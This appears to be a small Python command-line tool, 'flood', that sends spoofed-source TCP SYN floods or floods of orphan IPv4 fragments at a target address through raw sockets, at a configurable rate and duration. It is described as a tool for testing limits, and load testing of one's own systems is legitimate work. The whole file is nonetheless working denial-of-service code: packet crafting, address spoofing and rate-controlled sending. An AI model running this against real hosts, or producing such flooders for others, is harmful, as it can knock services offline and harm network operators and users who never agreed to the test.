#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""flood: IPv4 packets that nobody answers for, from spoofed sources, for tests of limits.

  flood syn ADDR PORT [--sources NET] [--rate PPS] [--seconds S]
      SYNs, each from an address and port of its own.
  flood fragments ADDR [--sources NET] [--rate PPS] [--seconds S]
      Later fragments of datagrams whose first one never comes.

Prints how many were sent.
"""
import argparse
import ipaddress
import random
import socket
import struct
import time

TRAIN = 100000      # packets made beforehand, and sent in a circle


def checksum(data):
    n = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    n = (n & 0xffff) + (n >> 16)
    return ~((n & 0xffff) + (n >> 16)) & 0xffff


def header(src, dst, proto, ident, frag, length):
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, ident, frag, 64, proto, 0, src, dst)


def syn(src, dst, port, sport):
    def segment(check):
        return struct.pack("!HHIIBBHHH", sport, port, 1, 0, 0x50, 2, 64240, check, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    return header(src, dst, socket.IPPROTO_TCP, sport, 0, 20) + segment(checksum(pseudo + segment(0)))


def fragment(src, dst, ident):
    offset = random.randrange(1, 180)
    return header(src, dst, socket.IPPROTO_UDP, ident, 0x2000 | offset, 256) + bytes(256)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    p.add_argument("what", choices=("syn", "fragments"))
    p.add_argument("addr")
    p.add_argument("port", type=int, nargs="?", default=0)
    p.add_argument("--sources", default="10.100.0.0/16")
    p.add_argument("--rate", type=int, default=20000)
    p.add_argument("--seconds", type=float, default=5)
    args = p.parse_args()
    net = ipaddress.ip_network(args.sources)
    dst = socket.inet_aton(args.addr)
    train = []
    for i in range(min(TRAIN, int(args.rate * args.seconds))):
        src = (int(net.network_address) + random.randrange(net.num_addresses)).to_bytes(4, "big")
        if args.what == "syn":
            train.append(syn(src, dst, args.port, 1024 + i % 64000))
        else:
            train.append(fragment(src, dst, i & 0xffff))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start, sent = time.monotonic(), 0
    print("ready", flush=True)
    while (now := time.monotonic()) < start + args.seconds:
        due = int((now - start) * args.rate)
        while sent < due:
            try:
                s.sendto(train[sent % len(train)], (args.addr, 0))
            except OSError:     # its own queue is full
                pass
            sent += 1
        time.sleep(0.001)
    print(sent)


if __name__ == "__main__":
    main()
